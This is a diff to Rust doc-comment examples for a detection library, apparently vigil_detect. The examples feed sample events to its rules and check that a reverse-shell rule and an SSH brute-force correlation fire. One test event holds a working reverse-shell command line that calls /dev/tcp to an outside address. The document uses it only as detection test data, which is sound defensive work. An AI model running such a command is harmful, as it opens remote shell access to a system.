@@ -13,15 +13,30 @@
 //!
 //! let report = builtin_rules();
 //! assert!(report.errors.is_empty());
-//! let engine = report.correlation_engine()?;
+//! let mut correlations = report.correlation_engine()?;
 //! let ruleset = report.into_ruleset_with(&PipelineSet::builtin()?);
-//! let event = serde_json::json!({
+//!
+//! // A reverse shell started on a Linux host: a detection rule fires on the event itself.
+//! let shell = serde_json::json!({
 //!     "event": {"category": "process", "type": "start"},
 //!     "host": {"os": {"type": "linux"}},
-//!     "process": {"executable": "/bin/bash", "command_line": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
+//!     "process": {"executable": "/usr/bin/bash", "command_line": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
 //! });
-//! assert!(ruleset.matches(&event).count() >= 1);
-//! # let _ = engine;
+//! let titles: Vec<_> = ruleset.matches(&shell).map(|r| r.rule().title.as_str()).collect();
+//! assert_eq!(titles, ["Reverse Shell Through /dev/tcp"]);
+//!
+//! // Ten failed SSH logins from one address within five minutes: a correlation fires.
+//! let failed = serde_json::json!({
+//!     "event": {"dataset": "auth"}, "process": {"name": "sshd"},
+//!     "host": {"name": "bastion-1"}, "source": {"ip": "203.0.113.9"},
+//!     "message": "Failed password for root from 203.0.113.9 port 52144 ssh2"
+//! });
+//! let mut alerts = Vec::new();
+//! for second in 0..10 {
+//!     let matched: Vec<_> = ruleset.matches(&failed).collect();
+//!     alerts.extend(correlations.process_rules(second * 1000, &matched, &failed));
+//! }
+//! assert!(alerts.iter().any(|a| a.title == "SSH Brute Force"));
 //! # Ok::<(), vigil_detect::Error>(())
 //! ```
 
